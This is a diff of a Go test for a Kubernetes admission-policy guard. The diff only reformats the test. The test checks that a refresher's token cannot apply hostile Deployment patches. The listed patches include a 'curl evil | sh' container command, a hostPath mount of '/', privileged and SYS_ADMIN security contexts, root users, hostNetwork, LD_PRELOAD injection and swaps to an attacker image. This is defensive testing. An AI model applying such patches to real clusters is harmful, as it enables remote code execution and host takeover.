@@ -45,48 +45,200 @@ func hostilePatches(deployment string) []hostilePatch {
 	pod := func(body string) string { return strategic(`{"spec":{"template":{"spec":{%s}}}}`, body) }
 	digest := "sha256:" + strings.Repeat("e", 64)
 	return []hostilePatch{
-		{"image", types.StrategicMergePatchType, container(`"image":"registry.example/evil:latest"`), guard + "container api image may not change"},
-		{"command", types.StrategicMergePatchType, container(`"command":["/bin/sh","-c","curl evil | sh"]`), guard + "container api command may not change"},
+		{
+			"image",
+			types.StrategicMergePatchType,
+			container(`"image":"registry.example/evil:latest"`),
+			guard + "container api image may not change",
+		},
+		{
+			"command",
+			types.StrategicMergePatchType,
+			container(`"command":["/bin/sh","-c","curl evil | sh"]`),
+			guard + "container api command may not change",
+		},
 		{"args", types.StrategicMergePatchType, container(`"args":["--evil"]`), guard + "container api args may not change"},
-		{"an extra container", types.StrategicMergePatchType, pod(`"containers":[{"name":"evil","image":"registry.example/evil"}]`), guard + "containers may not be added, removed, renamed or reordered"},
-		{"an init container", types.StrategicMergePatchType, pod(`"initContainers":[{"name":"evil","image":"registry.example/evil"}]`), guard + "spec.template.spec.initContainers may not change"},
-		{"serviceAccountName", types.StrategicMergePatchType, pod(`"serviceAccountName":"default"`), guard + "spec.template.spec.serviceAccountName may not change"},
-		{"a hostPath volume", types.StrategicMergePatchType, pod(`"volumes":[{"name":"root","hostPath":{"path":"/"}}]`), guard + "spec.template.spec.volumes may not change"},
+		{
+			"an extra container",
+			types.StrategicMergePatchType,
+			pod(`"containers":[{"name":"evil","image":"registry.example/evil"}]`),
+			guard + "containers may not be added, removed, renamed or reordered",
+		},
+		{
+			"an init container",
+			types.StrategicMergePatchType,
+			pod(`"initContainers":[{"name":"evil","image":"registry.example/evil"}]`),
+			guard + "spec.template.spec.initContainers may not change",
+		},
+		{
+			"serviceAccountName",
+			types.StrategicMergePatchType,
+			pod(`"serviceAccountName":"default"`),
+			guard + "spec.template.spec.serviceAccountName may not change",
+		},
+		{
+			"a hostPath volume",
+			types.StrategicMergePatchType,
+			pod(`"volumes":[{"name":"root","hostPath":{"path":"/"}}]`),
+			guard + "spec.template.spec.volumes may not change",
+		},
 		// This API server refuses privileged containers itself (--allow-privileged=false), before admission.
-		{"securityContext privileged", types.StrategicMergePatchType, container(`"securityContext":{"privileged":true,"allowPrivilegeEscalation":true}`), apiValidation + "disallowed by cluster policy"},
-		{"securityContext runAsUser 0", types.StrategicMergePatchType, container(`"securityContext":{"runAsUser":0,"runAsNonRoot":false}`), guard + "container api securityContext may not change"},
-		{"securityContext capabilities SYS_ADMIN", types.StrategicMergePatchType, container(`"securityContext":{"capabilities":{"add":["SYS_ADMIN"]}}`), guard + "container api securityContext may not change"},
-		{"pod securityContext runAsUser 0", types.StrategicMergePatchType, pod(`"securityContext":{"runAsUser":0}`), guard + "spec.template.spec.securityContext may not change"},
-		{"hostNetwork", types.StrategicMergePatchType, pod(`"hostNetwork":true`), guard + "spec.template.spec.hostNetwork may not change"},
-		{"nodeSelector", types.StrategicMergePatchType, pod(`"nodeSelector":{"kubernetes.io/hostname":"control-plane"}`), guard + "spec.template.spec.nodeSelector may not change"},
-		{"tolerations", types.StrategicMergePatchType, pod(`"tolerations":[{"operator":"Exists"}]`), guard + "spec.template.spec.tolerations may not change"},
-		{"another env var", types.StrategicMergePatchType, container(`"env":[{"name":"LD_PRELOAD","value":"/tmp/evil.so"}]`), guard + "container api env may change only in " + harness.DigestEnv},
-		{"the env var to a non-digest", types.StrategicMergePatchType, container(strategic(`"env":[{"name":%q,"value":"registry.example/evil:latest"}]`, harness.DigestEnv)),
-			guard + "container api env " + harness.DigestEnv + " may only be set to a sha256 digest"},
-		{"the env var to valueFrom", types.StrategicMergePatchType, container(strategic(`"env":[{"name":%q,"value":null,"valueFrom":{"fieldRef":{"fieldPath":"metadata.name"}}}]`, harness.DigestEnv)),
-			guard + "container api env " + harness.DigestEnv + " may only be set to a sha256 digest"},
-		{"the env var removed", types.StrategicMergePatchType, container(strategic(`"env":[{"name":%q,"$patch":"delete"}]`, harness.DigestEnv)),
-			guard + "container api env " + harness.DigestEnv + " may only be set to a sha256 digest"},
+		{
+			"securityContext privileged",
+			types.StrategicMergePatchType,
+			container(`"securityContext":{"privileged":true,"allowPrivilegeEscalation":true}`),
+			apiValidation + "disallowed by cluster policy",
+		},
+		{
+			"securityContext runAsUser 0",
+			types.StrategicMergePatchType,
+			container(`"securityContext":{"runAsUser":0,"runAsNonRoot":false}`),
+			guard + "container api securityContext may not change",
+		},
+		{
+			"securityContext capabilities SYS_ADMIN",
+			types.StrategicMergePatchType,
+			container(`"securityContext":{"capabilities":{"add":["SYS_ADMIN"]}}`),
+			guard + "container api securityContext may not change",
+		},
+		{
+			"pod securityContext runAsUser 0",
+			types.StrategicMergePatchType,
+			pod(`"securityContext":{"runAsUser":0}`),
+			guard + "spec.template.spec.securityContext may not change",
+		},
+		{
+			"hostNetwork",
+			types.StrategicMergePatchType,
+			pod(`"hostNetwork":true`),
+			guard + "spec.template.spec.hostNetwork may not change",
+		},
+		{
+			"nodeSelector",
+			types.StrategicMergePatchType,
+			pod(`"nodeSelector":{"kubernetes.io/hostname":"control-plane"}`),
+			guard + "spec.template.spec.nodeSelector may not change",
+		},
+		{
+			"tolerations",
+			types.StrategicMergePatchType,
+			pod(`"tolerations":[{"operator":"Exists"}]`),
+			guard + "spec.template.spec.tolerations may not change",
+		},
+		{
+			"another env var",
+			types.StrategicMergePatchType,
+			container(`"env":[{"name":"LD_PRELOAD","value":"/tmp/evil.so"}]`),
+			guard + "container api env may change only in " + harness.DigestEnv,
+		},
+		{
+			"the env var to a non-digest",
+			types.StrategicMergePatchType,
+			container(strategic(`"env":[{"name":%q,"value":"registry.example/evil:latest"}]`, harness.DigestEnv)),
+			guard + "container api env " + harness.DigestEnv + " may only be set to a sha256 digest",
+		},
+		{
+			"the env var to valueFrom",
+			types.StrategicMergePatchType,
+			container(
+				strategic(
+					`"env":[{"name":%q,"value":null,"valueFrom":{"fieldRef":{"fieldPath":"metadata.name"}}}]`,
+					harness.DigestEnv,
+				),
+			),
+			guard + "container api env " + harness.DigestEnv + " may only be set to a sha256 digest",
+		},
+		{
+			"the env var removed",
+			types.StrategicMergePatchType,
+			container(strategic(`"env":[{"name":%q,"$patch":"delete"}]`, harness.DigestEnv)),
+			guard + "container api env " + harness.DigestEnv + " may only be set to a sha256 digest",
+		},
 		{"replicas", types.StrategicMergePatchType, `{"spec":{"replicas":5}}`, guard + "spec.replicas may not change"},
-		{"labels", types.StrategicMergePatchType, `{"metadata":{"labels":{"evil":"true"}}}`, guard + "metadata.labels may not change"},
-		{"selector", types.StrategicMergePatchType, `{"spec":{"selector":{"matchLabels":{"evil":"true"}},"template":{"metadata":{"labels":{"evil":"true"}}}}}`, apiValidation + "field is immutable"},
-		{"strategy", types.StrategicMergePatchType, `{"spec":{"strategy":{"type":"Recreate","rollingUpdate":null}}}`, guard + "spec.strategy may not change"},
-		{"pod template labels", types.StrategicMergePatchType, `{"spec":{"template":{"metadata":{"labels":{"evil":"true"}}}}}`, guard + "spec.template.metadata.labels may not change"},
-		{"an annotation of another key", types.StrategicMergePatchType, `{"metadata":{"annotations":{"evil.example/key":"x"}}}`, guard + "annotation evil.example/key may not change"},
-		{"a pod template annotation of another key", types.StrategicMergePatchType, `{"spec":{"template":{"metadata":{"annotations":{"evil.example/key":"x"}}}}}`,
-			guard + "pod template annotation evil.example/key may not change"},
-		{"the audit annotation to a non-digest", types.StrategicMergePatchType, strategic(`{"metadata":{"annotations":{%q:"latest"}}}`, harness.Ingestor.Annotation()),
-			guard + "annotation " + harness.Ingestor.Annotation() + " may only be set to a sha256 digest"},
-		{"the status annotation oversized", types.StrategicMergePatchType, strategic(`{"metadata":{"annotations":{%q:%q}}}`, config.StatusAnnotationPrefix+harness.Ingestor.Name, strings.Repeat("x", contract.StatusMaxBytes+1)),
-			guard + "annotation " + config.StatusAnnotationPrefix + harness.Ingestor.Name + " may only be set"},
-		{"restartedAt to a non-time", types.StrategicMergePatchType, strategic(`{"spec":{"template":{"metadata":{"annotations":{%q:"evil"}}}}}`, config.RestartedAtAnnotation),
-			guard + "pod template annotation " + config.RestartedAtAnnotation + " may only be set to a time"},
-		{"image via JSON patch", types.JSONPatchType, `[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"registry.example/evil:latest"}]`,
-			guard + "container api image may not change"},
-		{"the env var and the image in one JSON patch", types.JSONPatchType, strategic(`[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"registry.example/evil:latest"},{"op":"add","path":"/metadata/annotations/%s","value":%q}]`,
-			strings.ReplaceAll(harness.Ingestor.Annotation(), "/", "~1"), digest), guard + "container api image may not change"},
-		{"image via server-side apply", types.ApplyPatchType, strategic(`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":%q},"spec":{"template":{"spec":{"containers":[{"name":%q,"image":"registry.example/evil:latest"}]}}}}`, deployment, harness.APIContainer),
-			guard + "container api image may not change"},
+		{
+			"labels",
+			types.StrategicMergePatchType,
+			`{"metadata":{"labels":{"evil":"true"}}}`,
+			guard + "metadata.labels may not change",
+		},
+		{
+			"selector",
+			types.StrategicMergePatchType,
+			`{"spec":{"selector":{"matchLabels":{"evil":"true"}},"template":{"metadata":{"labels":{"evil":"true"}}}}}`,
+			apiValidation + "field is immutable",
+		},
+		{
+			"strategy",
+			types.StrategicMergePatchType,
+			`{"spec":{"strategy":{"type":"Recreate","rollingUpdate":null}}}`,
+			guard + "spec.strategy may not change",
+		},
+		{
+			"pod template labels",
+			types.StrategicMergePatchType,
+			`{"spec":{"template":{"metadata":{"labels":{"evil":"true"}}}}}`,
+			guard + "spec.template.metadata.labels may not change",
+		},
+		{
+			"an annotation of another key",
+			types.StrategicMergePatchType,
+			`{"metadata":{"annotations":{"evil.example/key":"x"}}}`,
+			guard + "annotation evil.example/key may not change",
+		},
+		{
+			"a pod template annotation of another key",
+			types.StrategicMergePatchType,
+			`{"spec":{"template":{"metadata":{"annotations":{"evil.example/key":"x"}}}}}`,
+			guard + "pod template annotation evil.example/key may not change",
+		},
+		{
+			"the audit annotation to a non-digest",
+			types.StrategicMergePatchType,
+			strategic(`{"metadata":{"annotations":{%q:"latest"}}}`, harness.Ingestor.Annotation()),
+			guard + "annotation " + harness.Ingestor.Annotation() + " may only be set to a sha256 digest",
+		},
+		{
+			"the status annotation oversized",
+			types.StrategicMergePatchType,
+			strategic(
+				`{"metadata":{"annotations":{%q:%q}}}`,
+				config.StatusAnnotationPrefix+harness.Ingestor.Name,
+				strings.Repeat("x", contract.StatusMaxBytes+1),
+			),
+			guard + "annotation " + config.StatusAnnotationPrefix + harness.Ingestor.Name + " may only be set",
+		},
+		{
+			"restartedAt to a non-time",
+			types.StrategicMergePatchType,
+			strategic(`{"spec":{"template":{"metadata":{"annotations":{%q:"evil"}}}}}`, config.RestartedAtAnnotation),
+			guard + "pod template annotation " + config.RestartedAtAnnotation + " may only be set to a time",
+		},
+		{
+			"image via JSON patch",
+			types.JSONPatchType,
+			`[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"registry.example/evil:latest"}]`,
+			guard + "container api image may not change",
+		},
+		{
+			"the env var and the image in one JSON patch",
+			types.JSONPatchType,
+			strategic(
+				`[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"registry.example/evil:latest"},{"op":"add","path":"/metadata/annotations/%s","value":%q}]`,
+				strings.ReplaceAll(harness.Ingestor.Annotation(), "/", "~1"),
+				digest,
+			),
+			guard + "container api image may not change",
+		},
+		{
+			"image via server-side apply",
+			types.ApplyPatchType,
+			strategic(
+				`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":%q},"spec":{"template":{"spec":{"containers":[{"name":%q,"image":"registry.example/evil:latest"}]}}}}`,
+				deployment,
+				harness.APIContainer,
+			),
+			guard + "container api image may not change",
+		},
 	}
 }
 
@@ -100,13 +252,31 @@ func setImagePatches(repo, podsMonitorRepo string) []hostilePatch {
 	digest := "sha256:" + strings.Repeat("e", 64)
 	only := guard + "container api image may only be set to " + repo + "@sha256:<64 hex>"
 	return []hostilePatch{
-		{"set-image: the image to another repository's digest", types.StrategicMergePatchType, image(harness.APIContainer, "registry.example/evil@"+digest), only},
+		{
+			"set-image: the image to another repository's digest",
+			types.StrategicMergePatchType,
+			image(harness.APIContainer, "registry.example/evil@"+digest),
+			only,
+		},
 		{"set-image: the image to a tag", types.StrategicMergePatchType, image(harness.APIContainer, repo+":evil"), only},
-		{"set-image: the image to a tag and digest", types.StrategicMergePatchType, image(harness.APIContainer, repo+":evil@"+digest), only},
-		{"set-image: another container's image to its digest", types.StrategicMergePatchType, image(harness.PodsMonitor.Name, podsMonitorRepo+"@"+digest),
-			guard + "container " + harness.PodsMonitor.Name + " may not change"},
+		{
+			"set-image: the image to a tag and digest",
+			types.StrategicMergePatchType,
+			image(harness.APIContainer, repo+":evil@"+digest),
+			only,
+		},
+		{
+			"set-image: another container's image to its digest",
+			types.StrategicMergePatchType,
+			image(harness.PodsMonitor.Name, podsMonitorRepo+"@"+digest),
+			guard + "container " + harness.PodsMonitor.Name + " may not change",
+		},
 		{"set-image: the image to a digest with a command", types.StrategicMergePatchType,
-			strategic(`{"spec":{"template":{"spec":{"containers":[{"name":%q,"image":%q,"command":["/evil"]}]}}}}`, harness.APIContainer, repo+"@"+digest),
+			strategic(
+				`{"spec":{"template":{"spec":{"containers":[{"name":%q,"image":%q,"command":["/evil"]}]}}}}`,
+				harness.APIContainer,
+				repo+"@"+digest,
+			),
 			guard + "container api command may not change"},
 	}
 }
@@ -123,7 +293,9 @@ func TestAdmissionGuard(t *testing.T) {
 	r.install()
 	ctx := t.Context()
 	guardName := guard.Name(releaseName+"-image-refresh", r.Namespace)
-	policy, err := w.cluster.Client.AdmissionregistrationV1().ValidatingAdmissionPolicies().Get(ctx, guardName, metav1.GetOptions{})
+	policy, err := w.cluster.Client.AdmissionregistrationV1().
+		ValidatingAdmissionPolicies().
+		Get(ctx, guardName, metav1.GetOptions{})
 	if err != nil {
 		t.Fatalf("the guard policy %s: %v", guardName, err)
 	}
@@ -181,7 +353,9 @@ func TestAdmissionGuard(t *testing.T) {
 	}
 
 	var table strings.Builder
-	table.WriteString("| hostile patch (refresher's token) | type | API server's answer | as cluster admin (dry run) |\n|---|---|---|---|\n")
+	table.WriteString(
+		"| hostile patch (refresher's token) | type | API server's answer | as cluster admin (dry run) |\n|---|---|---|---|\n",
+	)
 	before := r.state()
 	for _, p := range hostilePatches(deployName) {
 		denyOne(t, p, asRefresher, asAdmin, r.Namespace, w.registry.Host, &table)
@@ -240,7 +414,13 @@ func TestAdmissionGuard(t *testing.T) {
 
 // denyOne applies a hostile patch with the refresher's token, which must be denied with its
 // message, and as cluster admin (dry run), which must pass; it adds the patch's row to table.
-func denyOne(t *testing.T, p hostilePatch, asRefresher, asAdmin func(hostilePatch, bool) error, namespace, registry string, table *strings.Builder) {
+func denyOne(
+	t *testing.T,
+	p hostilePatch,
+	asRefresher, asAdmin func(hostilePatch, bool) error,
+	namespace, registry string,
+	table *strings.Builder,
+) {
 	t.Helper()
 	err := asRefresher(p, false)
 	answer := "allowed"
@@ -262,7 +442,14 @@ func denyOne(t *testing.T, p hostilePatch, asRefresher, asAdmin func(hostilePatc
 	} else if byValidation {
 		t.Errorf("%s as cluster admin (dry run): allowed; want the API server's own refusal %q", p.name, want)
 	}
-	fmt.Fprintf(table, "| %s | %s | %s | %s |\n", p.name, patchTypeName(p.patchType), tableCell(answer, namespace, registry), admin)
+	fmt.Fprintf(
+		table,
+		"| %s | %s | %s | %s |\n",
+		p.name,
+		patchTypeName(p.patchType),
+		tableCell(answer, namespace, registry),
+		admin,
+	)
 }
 
 // waitGuardEnforced waits until the API server denies a change of labels made with the
@@ -272,7 +459,11 @@ func denyOne(t *testing.T, p hostilePatch, asRefresher, asAdmin func(hostilePatc
 func waitGuardEnforced(t *testing.T, patch func(hostilePatch, bool) error) time.Duration {
 	t.Helper()
 	began := time.Now()
-	probe := hostilePatch{name: "probe", patchType: types.StrategicMergePatchType, patch: `{"metadata":{"labels":{"probe":"x"}}}`}
+	probe := hostilePatch{
+		name:      "probe",
+		patchType: types.StrategicMergePatchType,
+		patch:     `{"metadata":{"labels":{"probe":"x"}}}`,
+	}
 	for {
 		err := patch(probe, true)
 		if err != nil && strings.Contains(err.Error(), guard.MessagePrefix) {
@@ -331,7 +522,9 @@ func testGuardNeedsClusterRights(t *testing.T, tool string) {
 	}, metav1.CreateOptions{}); err != nil {
 		t.Fatal(err)
 	}
-	tr, err := client.CoreV1().ServiceAccounts(r.Namespace).CreateToken(ctx, installer, &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
+	tr, err := client.CoreV1().
+		ServiceAccounts(r.Namespace).
+		CreateToken(ctx, installer, &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -342,7 +535,9 @@ func testGuardNeedsClusterRights(t *testing.T, tool string) {
 	// The release's own Helm homes: for Helm 4 they hold the installed post-renderer plugin.
 	helm := r.Helm.WithKubeconfig(kubeconfig)
 	install := func(extra ...string) *harness.Result {
-		args := append([]string{"install", releaseName, r.Chart, "--namespace", r.Namespace, "--post-renderer", r.PostRenderer}, r.Values()...)
+		args := append(
+			[]string{"install", releaseName, r.Chart, "--namespace", r.Namespace, "--post-renderer", r.PostRenderer},
+			r.Values()...)
 		res, err := helm.Try(ctx, append(args, extra...)...)
 		if err != nil {
 			t.Fatal(err)
@@ -352,8 +547,13 @@ func testGuardNeedsClusterRights(t *testing.T, tool string) {
 
 	res := install()
 	t.Logf("namespace-limited install with the guard: exit %d\n%s", res.ExitCode, res.Stderr)
-	if res.ExitCode == 0 || !strings.Contains(res.Stderr, "validatingadmissionpolicies") || !strings.Contains(res.Stderr, "forbidden") {
-		t.Fatalf("a namespace-limited install with the guard: exit %d, want a failure naming validatingadmissionpolicies as forbidden:\n%s", res.ExitCode, res)
+	if res.ExitCode == 0 || !strings.Contains(res.Stderr, "validatingadmissionpolicies") ||
+		!strings.Contains(res.Stderr, "forbidden") {
+		t.Fatalf(
+			"a namespace-limited install with the guard: exit %d, want a failure naming validatingadmissionpolicies as forbidden:\n%s",
+			res.ExitCode,
+			res,
+		)
 	}
 	deps, err := client.AppsV1().Deployments(r.Namespace).List(ctx, metav1.ListOptions{})
 	if err != nil {
@@ -368,7 +568,12 @@ func testGuardNeedsClusterRights(t *testing.T, tool string) {
 		t.Fatal(err)
 	}
 	if len(deps.Items)+len(cronJobs.Items)+len(roles.Items) > 0 {
-		t.Errorf("the refused install left %d Deployments, %d CronJobs, %d Roles behind", len(deps.Items), len(cronJobs.Items), len(roles.Items))
+		t.Errorf(
+			"the refused install left %d Deployments, %d CronJobs, %d Roles behind",
+			len(deps.Items),
+			len(cronJobs.Items),
+			len(roles.Items),
+		)
 	}
 
 	if res := install("--set", "imageRefresh.admissionGuard=false"); res.ExitCode != 0 {
